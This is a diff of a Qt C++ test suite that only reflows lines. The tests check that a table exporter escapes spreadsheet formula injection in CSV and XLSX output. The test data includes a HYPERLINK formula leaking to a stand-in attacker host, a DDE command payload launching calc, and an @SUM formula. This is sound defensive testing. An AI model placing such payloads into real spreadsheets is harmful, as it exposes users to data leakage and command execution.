@@ -113,7 +113,8 @@ void TestTableExport::hostileNamesInCsv()
     QString error;
     QVERIFY2(report.writeCsv(dir, &written, &error), qPrintable(error));
     const QString summary = readText(dir + QStringLiteral("/summary.csv"));
-    QVERIFY2(summary.contains(QStringLiteral("Site,\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Click\"\")\"\r\n")),
+    QVERIFY2(
+        summary.contains(QStringLiteral("Site,\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Click\"\")\"\r\n")),
         qPrintable(summary));
     QVERIFY2(summary.contains(QStringLiteral("Operator,'@SUM(A1:A9)\r\n")), qPrintable(summary));
     const QString bom = readText(dir + QStringLiteral("/bill-of-materials.csv"));
@@ -138,7 +139,8 @@ void TestTableExport::germanCsv()
     const QString bom = readText(dir + QStringLiteral("/bill-of-materials.csv"));
     // ";" between cells, decimal commas, no thousands separators, the unit in the header.
     QVERIFY2(bom.startsWith(QStringLiteral("Gruppe;Position;Anzahl;GPUs;Nennleistung (kW)\r\n")), qPrintable(bom));
-    QVERIFY2(bom.contains(QStringLiteral("Rechenknoten;'+cmd|' /C calc'!A0 Server 2U;3;12;411,50\r\n")), qPrintable(bom));
+    QVERIFY2(
+        bom.contains(QStringLiteral("Rechenknoten;'+cmd|' /C calc'!A0 Server 2U;3;12;411,50\r\n")), qPrintable(bom));
     const QString summary = readText(dir + QStringLiteral("/summary.csv"));
     QVERIFY2(summary.contains(QStringLiteral("\r\nStandort;\"'=HYPERLINK(\"\"http")), qPrintable(summary));
     QVERIFY2(summary.contains(QStringLiteral("\r\nBetreiber;'@SUM(A1:A9)\r\n")), qPrintable(summary));
@@ -171,7 +173,8 @@ void TestTableExport::xlsx()
 
     // Bill of materials (sheet 2): quantity and rating are numeric cells, the rating with its decimals.
     const QString bom = zipMember(path, QStringLiteral("xl/worksheets/sheet2.xml"));
-    QVERIFY2(bom.contains(QRegularExpression(QStringLiteral("<c r=\"C\\d+\" s=\"\\d+\"><v>3</v></c>"))), qPrintable(bom));
+    QVERIFY2(
+        bom.contains(QRegularExpression(QStringLiteral("<c r=\"C\\d+\" s=\"\\d+\"><v>3</v></c>"))), qPrintable(bom));
     QVERIFY2(bom.contains(QRegularExpression(QStringLiteral("<c r=\"E\\d+\" s=\"\\d+\"><v>411.5</v></c>"))),
         qPrintable(bom));
     // The hostile names are strings: no sheet holds a formula.
